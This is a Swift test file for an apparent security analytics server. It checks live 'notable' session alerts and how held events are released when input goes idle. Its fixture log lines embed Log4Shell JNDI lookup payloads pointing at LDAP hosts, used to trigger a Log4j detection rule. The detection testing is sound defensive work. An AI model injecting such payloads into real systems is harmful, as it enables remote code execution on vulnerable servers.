import Foundation
#if canImport(FoundationNetworking)
import FoundationNetworking
#endif
import OspreyTestSupport
import XCTest

/// Live notable in serve (docs/analytics.md, "Live notable"): an open session whose score crosses the
/// threshold emits one `{"kind":"notable",…}` line at the crossing event, to the outputs and the alert
/// index, so /api/notable lists the session before it closes.
final class LiveNotableServeTests: XCTestCase {
    static func login(_ user: String, _ time: String, ip: String, info: String = "") -> String {
        "date=\(time)|mcType=auditLog|user=\(user)|auditType=\"User Logged On\"|eventInfo=\"Successful authentication for \(user)\(info)|app=mimecast-moa|src=\(ip)|action=success"
    }

    func testOpenSessionCrossingTheThresholdIsNotableOnceAndListed() throws {
        let dir = try makeTempDir("live-notable")
        // A one-second reorder window (flush releases it); no context (content only).
        let server = try ServerProcess(dir: dir, extraServe: "reorder_seconds = 1\nnotable_threshold = 90", context: nil)
        defer { server.stop() }
        let user = "nina.park@corp-example.com"
        func post(_ lines: [String]) {
            let (status, body) = server.http("POST", "/ingest", body: Data((lines.joined(separator: "\n") + "\n").utf8))
            XCTAssertEqual(status, 200, String(decoding: body, as: UTF8.self))
        }
        func alerts() -> [String] {
            ((try? String(contentsOfFile: dir + "/alerts.jsonl", encoding: .utf8)) ?? "").split(separator: "\n").map(String.init)
        }
        // 1. An ordinary login opens the session: nothing notable.
        post([Self.login(user, "2026-11-02T08:00:00+0000", ip: "198.51.100.20")])
        XCTAssertTrue(server.waitProcessed(transport: "http", count: 1), server.stderrText)
        XCTAssertEqual(server.http("POST", "/api/flush").0, 200)
        XCTAssertFalse(alerts().contains { $0.contains("\"kind\":\"notable\"") }, "notable before any rule: \(alerts())")
        // 2. A login carrying a plain JNDI lookup (A-APP-Log4j-String, 90) crosses the threshold; 3. a second one
        // from another address adds to the same open session but must not announce it again.
        post([Self.login(user, "2026-11-02T08:20:00+0000", ip: "198.51.100.21", info: ", User-Agent: ${jndi:ldap://203.0.113.45:1389/a}"),
              Self.login(user, "2026-11-02T08:40:00+0000", ip: "198.51.100.22", info: ", User-Agent: ${jndi:ldap://203.0.113.46:1389/b}")])
        XCTAssertTrue(server.waitProcessed(transport: "http", count: 3), server.stderrText)
        XCTAssertEqual(server.http("POST", "/api/flush").0, 200)

        let lines = alerts()
        let notable = lines.filter { $0.contains("\"kind\":\"notable\"") }
        XCTAssertEqual(notable.count, 1, "one live notable per session: \(lines)")
        let n = try XCTUnwrap(notable.first.flatMap { try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] })
        XCTAssertEqual(n["user"] as? String, user)
        XCTAssertEqual(n["time"] as? String, "2026-11-02T08:20:00.000Z", "emitted at the crossing event: \(n)")
        XCTAssertGreaterThanOrEqual(n["score"] as? Int ?? 0, 90)
        XCTAssertEqual(n["threshold"] as? Int, 90)
        XCTAssertTrue((n["rules"] as? [String] ?? []).contains("A-APP-Log4j-String"), "\(n)")
        // The notable line follows the crossing event's rule lines and precedes the third login's.
        let crossingRule = try XCTUnwrap(lines.firstIndex { $0.contains("\"kind\":\"rule\"") && $0.contains("2026-11-02T08:20:00") })
        let notableAt = try XCTUnwrap(lines.firstIndex { $0.contains("\"kind\":\"notable\"") })
        XCTAssertLessThan(crossingRule, notableAt)
        if let later = lines.firstIndex(where: { $0.contains("\"kind\":\"rule\"") && $0.contains("2026-11-02T08:40:00") }) {
            XCTAssertLessThan(notableAt, later)
        }
        // The session is still open (no closing session line) and /api/notable lists it.
        XCTAssertFalse(lines.contains { $0.contains("\"kind\":\"session\"") }, "the session has not closed: \(lines)")
        let listed = server.json("/api/notable")
        let sessions = listed["sessions"] as? [[String: Any]] ?? []
        XCTAssertTrue(sessions.contains { ($0["user"] as? String) == user && ($0["session"] as? String) == (n["session"] as? String) },
                      "/api/notable lists the open session: \(listed)")
        let users = server.json("/api/users")["users"] as? [[String: Any]] ?? []
        let u = try XCTUnwrap(users.first { ($0["user"] as? String) == user }, "\(users)")
        XCTAssertGreaterThanOrEqual(u["max_score"] as? Int ?? 0, 90, "\(u)")
    }

    /// Input idle: event time moves on with the wall clock from the newest event, so an event held for
    /// reordering is released after its window without a flush or a newer event; a window longer than the
    /// wait still holds it.
    func testIdleInputReleasesHeldEventsAfterTheirWindow() throws {
        func run(reorderSeconds: Int, wait: TimeInterval) throws -> [String] {
            let dir = try makeTempDir("idle-advance")
            let server = try ServerProcess(dir: dir, extraServe: "reorder_seconds = \(reorderSeconds)\ncheckpoint_seconds = 1", context: nil)
            defer { server.stop() }
            let line = Self.login("omar.haddad@corp-example.com", "2026-11-02T08:20:00+0000", ip: "198.51.100.21",
                                  info: ", User-Agent: ${jndi:ldap://203.0.113.45:1389/a}")
            XCTAssertEqual(server.http("POST", "/ingest", body: Data((line + "\n").utf8)).0, 200)
            XCTAssertTrue(server.waitProcessed(transport: "http", count: 1), server.stderrText)
            let deadline = Date().addingTimeInterval(wait)
            var lines: [String] = []
            repeat {
                Thread.sleep(forTimeInterval: 0.25)
                lines = ((try? String(contentsOfFile: dir + "/alerts.jsonl", encoding: .utf8)) ?? "").split(separator: "\n").map(String.init)
            } while lines.isEmpty && Date() < deadline
            return lines
        }
        let released = try run(reorderSeconds: 1, wait: 20)
        XCTAssertTrue(released.contains { $0.contains("A-APP-Log4j-String") }, "released after idle: \(released)")
        let held = try run(reorderSeconds: 600, wait: 4)
        XCTAssertTrue(held.isEmpty, "a 10-minute window still holds the event after 4 s: \(held)")
    }
}
